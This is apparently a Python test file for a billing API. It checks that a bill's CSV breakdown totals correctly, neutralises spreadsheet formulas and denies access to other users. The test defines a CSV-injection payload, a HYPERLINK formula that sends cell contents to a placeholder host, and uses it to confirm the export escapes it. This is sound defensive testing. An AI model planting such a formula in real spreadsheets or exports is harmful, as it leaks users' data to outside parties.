"""The breakdown of a bill as CSV (BI-4)."""

import csv
from dataclasses import replace
from datetime import date
from io import StringIO

from schema.nodes import node_id
from tests.api import Api
from tests.downloading import fetched, refused
from tests.world import World

DOWNLOAD = """
query ($id: ID!, $format: DownloadFormat!) {
  node(id: $id) { ... on Bill { download(format: $format) { url } } }
}
"""
FORMULA = '=HYPERLINK("https://example.com/?"&A1;"料金")'


async def test_the_breakdown_of_a_bill_adds_up_and_holds_no_formula(api: Api, world: World) -> None:
    place = await world.change(world.alice.facility, name='＋自宅,"1階"')
    bill = await world.bill(place, date(2040, 5, 1))
    first, *others = bill.lines
    bill = replace(bill, revision=1, lines=(replace(first, label=FORMULA), *others))
    await world.sources.bills.put([bill], world.sources.clock())
    given = {"id": node_id("Bill", bill.id), "format": "CSV"}
    data = await api.data(DOWNLOAD, world.alice.token, **given)
    url = data["node"]["download"]["url"]
    response = await fetched(api, url)

    text = response.content.decode("utf-8-sig")
    assert response.content.startswith(b"\xef\xbb\xbf")
    *lines, total, tax = csv.DictReader(StringIO(text, newline=""))
    assert [line["項目"] for line in lines] == [f"'{FORMULA}", *(line.label for line in others)]
    assert [line["項目コード"] for line in lines] == [line.kind.value for line in bill.lines]
    assert sum(round(float(line["金額（円）"]) * 100) for line in lines) == bill.amount_yen * 100
    assert (total["項目コード"], total["金額（円）"]) == ("TOTAL", str(bill.amount_yen))
    assert (tax["項目"], tax["金額（円）"]) == ("うち消費税等（10%）", str(bill.tax_yen))
    assert {line["ご使用場所"] for line in (*lines, total, tax)} == {'\'＋自宅,"1階"'}
    assert (total["使用期間開始日"], total["使用期間終了日"]) == ("2040-04-12", "2040-05-11")


async def test_an_address_of_a_bill_is_refused_to_others_and_in_other_formats(
    api: Api, world: World
) -> None:
    bill = await world.bill(world.alice.facility, date(2040, 5, 1))
    given = {"id": node_id("Bill", bill.id), "format": "XLSX"}
    assert await api.error(DOWNLOAD, world.alice.token, **given) == (
        "BAD_INPUT",
        "format must be PDF or CSV here, found XLSX",
    )
    given["format"] = "CSV"
    assert await api.code(DOWNLOAD, world.bob.token, **given) == "NOT_FOUND"
    data = await api.data(DOWNLOAD, world.alice.token, **given)
    url = data["node"]["download"]["url"]
    await world.sources.bills.put([replace(bill, owner=world.bob.member)], world.sources.clock())
    assert await refused(api, url) == (404, "NOT_FOUND")
